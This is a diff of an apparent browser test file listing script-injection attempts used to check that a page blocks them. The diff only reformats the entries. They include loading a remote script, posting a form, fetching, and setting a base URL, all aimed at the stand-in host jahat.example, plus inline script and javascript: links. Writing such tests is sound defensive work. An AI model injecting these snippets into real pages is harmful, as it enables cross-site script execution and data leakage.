@@ -9,11 +9,15 @@ test.describe(() => {
   const INTRUDERS: [string, string][] = [
     [
       'an inline script',
-      `const script = document.createElement('script'); script.textContent = 'ran = 1'; document.body.append(script)`
+      `const script = document.createElement('script');
+         script.textContent = 'ran = 1';
+         document.body.append(script)`
     ],
     [
       'a script of another host',
-      `const script = document.createElement('script'); script.src = 'https://jahat.example/a.js'; document.body.append(script)`
+      `const script = document.createElement('script');
+         script.src = 'https://jahat.example/a.js';
+         document.body.append(script)`
     ],
     [
       'a handler in markup',
@@ -21,20 +25,30 @@ test.describe(() => {
     ],
     [
       'a javascript: link',
-      `const link = document.createElement('a'); link.href = 'javascript:ran = 1'; document.body.append(link); link.click()`
+      `const link = document.createElement('a');
+         link.href = 'javascript:ran = 1';
+         document.body.append(link);
+         link.click()`
     ],
     [
       'a frame',
-      `const frame = document.createElement('iframe'); frame.src = '/'; document.body.append(frame)`
+      `const frame = document.createElement('iframe');
+         frame.src = '/';
+         document.body.append(frame)`
     ],
     [
       'a form to another host',
-      `const form = document.createElement('form'); form.action = 'https://jahat.example/'; document.body.append(form); form.submit()`
+      `const form = document.createElement('form');
+         form.action = 'https://jahat.example/';
+         document.body.append(form);
+         form.submit()`
     ],
     ['a request to another host', `fetch('https://jahat.example/').catch(() => undefined)`],
     [
       'a base for every link',
-      `const base = document.createElement('base'); base.href = 'https://jahat.example/'; document.head.append(base)`
+      `const base = document.createElement('base');
+         base.href = 'https://jahat.example/';
+         document.head.append(base)`
     ]
   ];
   for (const [what, intrusion] of INTRUDERS)
